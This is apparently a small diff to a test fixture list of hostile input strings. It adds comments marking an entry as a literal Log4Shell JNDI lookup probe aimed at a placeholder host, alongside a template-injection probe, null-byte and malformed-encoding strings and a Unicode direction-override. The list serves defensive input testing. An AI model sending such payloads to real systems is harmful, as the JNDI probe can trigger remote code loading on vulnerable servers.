@@ -38,6 +38,8 @@ export const HOSTILE_STRINGS = [
   '%00',
   '%ZZ',
   '{{7*7}}',
+  // A Log4Shell probe, literally (not a template).
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: the hostile string itself
   '${jndi:ldap://example.org/a}',
   '\u202e\u0644\u0627',
   '😀'.repeat(300),
